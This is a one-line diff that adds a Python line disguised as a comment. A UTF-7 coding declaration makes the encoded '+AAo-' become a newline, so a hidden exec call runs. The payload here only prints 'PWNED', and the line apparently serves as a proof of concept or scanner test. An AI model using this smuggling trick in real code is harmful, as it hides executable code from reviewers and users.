@@ -1,0 +1,1 @@
+# harmless# coding: utf-7# +AAo-exec("print('PWNED')")
